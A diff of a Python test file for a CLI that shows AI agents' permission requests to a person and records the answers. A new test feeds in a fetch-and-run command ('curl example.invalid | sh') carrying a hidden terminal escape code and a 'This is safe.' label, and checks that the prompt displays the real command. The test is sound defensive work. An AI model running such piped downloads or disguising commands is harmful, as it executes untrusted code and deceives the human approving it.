@@ -1,4 +1,4 @@
-"""A question of an agent, from the journal to the person and back: in a list, in a pipe, on a terminal."""
+"""Permission requests of agents: in a list, in a pipe, on a terminal."""
 
 from __future__ import annotations
 
@@ -13,11 +13,14 @@ from typing import Any
 
 import pytest
 
-from understudy.faces.cli import answering, app, exits, output, terminal
-from understudy.journal import control
+from understudy.frontends.cli import app, exit_codes
+from understudy.frontends.cli.delegate import answer
+from understudy.frontends.cli.output import output
+from understudy.frontends.cli.terminal import permission_prompt, terminal
+from understudy.journal import worker_requests
 from understudy.model import events as e
-from understudy.model.delegations import PermissionOption
-from understudy.model.states import Verdict
+from understudy.model.delegations import PermissionOption, PermissionRequest
+from understudy.model.verdicts import Verdict
 
 ASKED = e.Permission(
     request_id="q1",
@@ -27,7 +30,7 @@ ASKED = e.Permission(
         PermissionOption(id="opt-a", title="Yes", kind="allow_once"),
         PermissionOption(id="opt-b", title="No", kind="reject_once"),
     ],
-    on_deadline="reject",
+    deadline_action="reject",
 )
 
 
@@ -35,51 +38,51 @@ ASKED = e.Permission(
 def asking(journal: Callable[..., Any]) -> Any:
     """A delegation that waits for a person; its worker is this test."""
     writer = journal()
-    writer.append(e.Started(delegator="quick", model="m", why="you asked"), attempt=1)
+    writer.append(e.Started(delegator="quick", model="m", reason="you asked"), attempt=1)
     writer.append(ASKED, attempt=1)
     writer.flush_summary()
     return writer
 
 
 def answers_to(writer: Any) -> list[tuple[str, str, str | None]]:
-    given = [item for item in control.read_control(writer.folder) if isinstance(item, control.Answer)]
+    given = [item for item in worker_requests.read_requests(writer.folder) if isinstance(item, worker_requests.Answer)]
     return [(one.request_id, one.option, one.note) for one in given]
 
 
 def test_a_question_is_listed_shown_and_answered(asking: Any, capsys: pytest.CaptureFixture[str]) -> None:
     whole = asking.folder.id
-    assert app.main(["answer", "--list"]) == exits.Exit.OK
+    assert app.main(["answer", "--list"]) == exit_codes.Exit.OK
     assert "Run `rm -rf build`?" in capsys.readouterr().out
-    assert app.main(["show", whole]) == exits.Exit.OK
+    assert app.main(["show", whole]) == exit_codes.Exit.OK
     card = capsys.readouterr().out
     assert "? asks: Run `rm -rf build`?\n  | rm -rf build\n  1  Yes  (allow_once)\n  2  No  (reject_once)\n" in card
     assert f"next: understudy answer {whole}\n" in card
-    assert [item.value for item in answering.complete_waiting(None, None, "2026")] == [whole]
-    assert answering.inbox(terminal.Paint(on=False)) == (
+    assert [item.value for item in answer.complete_waiting(None, None, "2026")] == [whole]
+    assert answer.inbox(terminal.Paint(on=False)) == (
         f"? {whole} asks: Run `rm -rf build`?\n    understudy answer {whole}\n"
     )
-    assert app.main(["answer", whole]) == exits.Exit.USAGE, "nobody can be asked in a pipe"
-    assert app.main(["answer", whole, "maybe"]) == exits.Exit.ERROR
+    assert app.main(["answer", whole]) == exit_codes.Exit.USAGE, "no question can be asked in a pipe"
+    assert app.main(["answer", whole, "maybe"]) == exit_codes.Exit.ERROR
     assert answers_to(asking) == []
-    assert app.main(["answer", whole[-5:], "reject_once", "--note", "not that folder"]) == exits.Exit.OK
+    assert app.main(["answer", whole[-5:], "reject_once", "--note", "not that folder"]) == exit_codes.Exit.OK
     assert answers_to(asking) == [("q1", "opt-b", "not that folder")]
-    assert app.main(["answer", whole, "1", "--json"]) == exits.Exit.ERROR
+    assert app.main(["answer", whole, "1", "--json"]) == exit_codes.Exit.ERROR
     assert '"conflict"' in capsys.readouterr().out, "the first answer counts"
 
 
-def test_without_an_id_the_one_that_asks_is_meant(asking: Any) -> None:
-    assert app.main(["answer"]) == exits.Exit.USAGE
+def test_without_an_id_the_only_open_question_is_answered(asking: Any) -> None:
+    assert app.main(["answer"]) == exit_codes.Exit.USAGE
     _ = asking
 
 
-def test_the_list_begins_with_what_is_asked_on_a_terminal_only(
+def test_the_list_begins_with_open_questions_on_a_terminal_only(
     asking: Any, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    assert app.main(["list"]) == exits.Exit.OK
+    assert app.main(["list"]) == exit_codes.Exit.OK
     assert "asks:" not in capsys.readouterr().out
     monkeypatch.setattr(terminal, "is_terminal", lambda _stream: True)
     monkeypatch.setattr(output, "paint", lambda: terminal.Paint(on=False))
-    assert app.main(["list"]) == exits.Exit.OK
+    assert app.main(["list"]) == exit_codes.Exit.OK
     assert capsys.readouterr().out.startswith(f"? {asking.folder.id} asks: Run")
 
 
@@ -93,17 +96,17 @@ def read_until(stream: Any, text: str, seconds: float = 20) -> str:
     return seen
 
 
-def test_in_a_pipe_a_line_says_how_to_answer(asking: Any) -> None:
+def test_in_a_pipe_a_line_shows_how_to_answer(asking: Any) -> None:
     argv = [sys.executable, "-m", "understudy", "watch", asking.folder.id]
     with subprocess.Popen(argv, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, text=True) as watching:
-        seen = read_until(watching.stdout, "answer it:")
-        assert f"answer it: understudy answer {asking.folder.id}\n" in seen
+        seen = read_until(watching.stdout, "Answer with:")
+        assert f"Answer with: understudy answer {asking.folder.id}\n" in seen
         asking.append(e.PermissionAnswered(request_id="q1", option="opt-a", by="cli"), attempt=1)
         asking.append(e.Finished(verdict=Verdict.NO_CHANGES, reservations=[]), attempt=1)
         asking.close()
-        assert watching.wait(timeout=20) == exits.Exit.NO_CHANGES
+        assert watching.wait(timeout=20) == exit_codes.Exit.NO_CHANGES
     with subprocess.Popen(argv, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, text=True) as again:
-        assert "answer it:" not in again.communicate(timeout=20)[0], "it was answered"
+        assert "Answer with:" not in again.communicate(timeout=20)[0], "it was answered"
 
 
 @pytest.fixture
@@ -132,14 +135,14 @@ def shows(screen: Callable[..., str], text: str, seconds: float = 20) -> str:
 
 
 @pytest.mark.heavy
-def test_who_watches_on_a_terminal_answers_there(asking: Any, screen: Callable[..., str]) -> None:
+def test_watch_asks_on_a_terminal(asking: Any, screen: Callable[..., str]) -> None:
     screen("send-keys", "-l", f"{sys.executable} -m understudy watch {asking.folder.id[-5:]}; echo code $?.")
     screen("send-keys", "Enter")
-    found = shows(screen, "Which one?")
+    found = shows(screen, "Which option?")
     assert "1  Yes  (allow_once)" in found
     screen("send-keys", "-l", "perhaps")
     screen("send-keys", "Enter")
-    shows(screen, "there is no option 'perhaps'")
+    shows(screen, "There is no option 'perhaps'")
     assert answers_to(asking) == []
     screen("send-keys", "2", "Enter")
     deadline = time.monotonic() + 10
@@ -151,14 +154,14 @@ def test_who_watches_on_a_terminal_answers_there(asking: Any, screen: Callable[.
     shows(screen, "answered: opt-b")
     asking.append(e.Finished(verdict=Verdict.NO_CHANGES, reservations=[]), attempt=1)
     asking.close()
-    assert json.dumps(int(exits.Exit.NO_CHANGES)) in shows(screen, "code 4.")
+    assert json.dumps(int(exit_codes.Exit.NO_CHANGES)) in shows(screen, "code 4.")
 
 
 @pytest.mark.heavy
-def test_a_question_answered_elsewhere_is_withdrawn(asking: Any, screen: Callable[..., str]) -> None:
+def test_a_question_answered_elsewhere_is_closed(asking: Any, screen: Callable[..., str]) -> None:
     screen("send-keys", "-l", f"{sys.executable} -m understudy watch {asking.folder.id[-5:]}; echo code $?.")
     screen("send-keys", "Enter")
-    shows(screen, "Which one?")
+    shows(screen, "Which option?")
     asking.append(e.PermissionAnswered(request_id="q1", option="opt-a", by="deadline"), attempt=1)
     shows(screen, "answered: opt-a (by deadline)")
     screen("send-keys", "2", "Enter")
@@ -166,3 +169,22 @@ def test_a_question_answered_elsewhere_is_withdrawn(asking: Any, screen: Callabl
     asking.close()
     shows(screen, "code 4.")
     assert answers_to(asking) == []
+
+
+def test_the_command_is_shown_even_if_the_agent_does_not_say_it() -> None:
+    request = PermissionRequest(
+        request_id="q",
+        attempt=1,
+        title="Run it",
+        detail="This is safe.",
+        kind="execute",
+        command="curl example.invalid | sh\x1b[2K",
+        options=[PermissionOption(id="y", title="Allow", kind="allow_once")],
+        deadline_action="y",
+    )
+    assert permission_prompt.rows(request) == [
+        "asks: Run it",
+        "  | Runs: curl example.invalid | sh^[[2K",
+        "  | This is safe.",
+        "  1  Allow  (allow_once)",
+    ]
